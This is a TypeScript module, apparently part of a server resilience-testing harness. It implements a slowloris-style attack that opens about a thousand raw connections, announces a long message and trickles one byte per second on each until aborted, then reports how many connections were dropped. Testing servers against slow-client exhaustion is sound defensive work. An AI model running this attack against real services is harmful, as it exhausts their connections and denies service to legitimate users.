import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { openSocket } from '../raw-sockets.ts';

/** Announces a long first message and sends one byte of it a second, on many connections. */
export const attack: Attack = async ({ port, scale, signal }) => {
  const sockets = await Promise.all(Array.from({ length: Math.ceil(1000 * scale) }, () => openSocket(port)));
  const announcement = Uint8Array.of(0x02, 0x00);
  for (const socket of sockets) socket.write(announcement);
  let bytes = 0;
  while (!signal.aborted) {
    await delay(1000, undefined, { signal }).catch(() => undefined);
    for (const socket of sockets) {
      if (socket.destroyed) continue;
      socket.write(Uint8Array.of(0x00));
      bytes++;
    }
  }
  const dropped = sockets.filter((socket) => socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return { done: { connections: sockets.length, bytes, dropped } };
};
